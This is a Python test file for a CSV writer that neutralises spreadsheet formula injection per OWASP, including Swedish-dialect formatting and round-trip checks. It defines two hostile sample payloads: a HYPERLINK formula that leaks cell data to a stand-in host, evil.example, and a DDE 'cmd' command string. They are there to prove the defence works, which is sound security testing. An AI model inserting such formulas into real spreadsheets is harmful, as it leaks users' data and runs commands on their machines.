"""``host.csvfile``: the one CSV writer — OWASP's neutralisation, both dialects, read back."""

from __future__ import annotations

import io
from datetime import UTC, datetime

from hypothesis import given
from hypothesis import strategies as st

from host import csvfile

from .csv_safety import cells, formulas, naive_formulas

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
COMMAND = "Eva Ek;=cmd|' /C calc'!A0"


def test_a_formula_at_the_start_is_quoted_and_prefixed_as_owasp_says() -> None:
    # OWASP's own example: =1+2";=1+2  ->  "'=1+2"";=1+2" — and a ' after the inner ;
    assert csvfile.line(['=1+2";=1+2']) == '"\'=1+2"";\'=1+2"\r\n'
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csvfile.cell(f"{start}SUM(A1)") == f"'{start}SUM(A1)"
    assert csvfile.cell("  =1+2") == "'  =1+2"  # spaces before it do not help
    assert csvfile.cell("Anna Andersson") == "Anna Andersson"


def test_a_formula_after_a_separator_inside_a_value_is_neutralised_too() -> None:
    assert csvfile.cell("Eva;=cmd") == "'Eva;'=cmd"
    assert csvfile.cell("Eva,=cmd") == "'Eva,'=cmd"
    assert csvfile.cell("Eva; @SUM(1)") == "'Eva;' @SUM(1)"
    assert csvfile.cell("a\t+1") == "'a\t'+1"
    assert csvfile.line(["Eva;=cmd"], csvfile.PLAIN) == "\"'Eva;'=cmd\"\r\n"
    assert csvfile.cell("Eva; Ek") == "Eva; Ek"  # a separator alone is only quoted
    assert csvfile.line(["Eva; Ek"], csvfile.PLAIN) == '"Eva; Ek"\r\n'
    assert csvfile.line(["a,b"], csvfile.SWEDISH) == '"a,b"\r\n'


def test_numbers_are_numbers_and_the_swedish_dialect_has_a_decimal_comma_and_a_bom() -> None:
    rows = [["name", "share", "count", "active", "none"], ["Anna", 66.7, -1, True, None]]
    assert csvfile.text(rows) == "name,share,count,active,none\r\nAnna,66.7,-1,true,\r\n"
    assert csvfile.text(rows, csvfile.SWEDISH) == (
        "\ufeffname;share;count;active;none\r\nAnna;66,7;-1;ja;\r\n"
    )
    # Issue 16.8: an export people download is Swedish unless a script asks for plain
    assert csvfile.dialect(None) is csvfile.SWEDISH and csvfile.dialect("sv") is csvfile.SWEDISH
    assert csvfile.dialect("plain") is csvfile.PLAIN


def test_the_swedish_dialect_writes_times_as_local_minutes_and_plain_keeps_them() -> None:
    # 2026-03-16 08:00 UTC is 09:00 in Stockholm (winter time), 2026-07-01 08:00 UTC is 10:00
    times = ["2026-03-16 09:00:00", "2026-03-16T08:00:00Z", "2026-07-01T08:00:00+00:00"]
    moment = datetime(2026, 7, 1, 8, 0, tzinfo=UTC)
    swedish = csvfile.read(csvfile.text([[*times, moment, "Eva 12:00:00"]], csvfile.SWEDISH))
    assert swedish == [
        ["2026-03-16 09:00", "2026-03-16 09:00", "2026-07-01 10:00", "2026-07-01 10:00",
         "Eva 12:00:00"]
    ]  # fmt: skip
    plain = csvfile.read(csvfile.text([[*times, moment]], csvfile.PLAIN))
    assert plain == [[*times, "2026-07-01T08:00:00+00:00"]]


def test_no_cell_starts_a_formula_in_either_dialect_split_either_way() -> None:
    rows = [["name", "note"], [HYPERLINK, COMMAND], ["-5", "@user"], ["'=x", "ok"]]
    for style in (csvfile.PLAIN, csvfile.SWEDISH):
        content = csvfile.text(rows, style)
        assert formulas(content) == [], style
        assert naive_formulas(content, ",") == naive_formulas(content, ";") == []
        assert len(cells(content, style.delimiter)[1]) == 2  # one cell each, not split
        assert csvfile.read(content) == rows  # and read back to what was given


@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), min_size=1, max_size=4))
def test_whatever_is_written_reads_back_and_runs_nothing(rows: list[list[str]]) -> None:
    width = len(rows[0])
    rows = [(row * width)[:width] for row in rows]
    for style in (csvfile.PLAIN, csvfile.SWEDISH):
        content = csvfile.text(rows, style)
        restored = csvfile.read(content)
        # csv reads an empty single-cell row as no cells at all
        assert [r if r else [""] for r in restored] == rows
        assert formulas(content) == []


def test_a_formula_after_a_line_break_inside_a_value_is_neutralised() -> None:
    # Split on the other separator, a quoted cell ends its row at the line break.
    rows = [["x", "a\n=cmd"], ["a\r\n@x", "\r\n"]]
    for style in (csvfile.PLAIN, csvfile.SWEDISH):
        content = csvfile.text(rows, style)
        assert formulas(content) == [], style
        assert naive_formulas(content, ",") == naive_formulas(content, ";") == []
        assert csvfile.read(content) == rows


def test_a_streamed_file_reads_back_in_either_dialect() -> None:
    for style in (csvfile.PLAIN, csvfile.SWEDISH):
        out = io.StringIO(newline="")
        writer = csvfile.Writer(out, style)
        writer.row(["a", "b"])
        writer.row([HYPERLINK, "x\ny"])
        out.seek(0)
        assert list(csvfile.reader(out)) == [["a", "b"], [HYPERLINK, "x\ny"]]
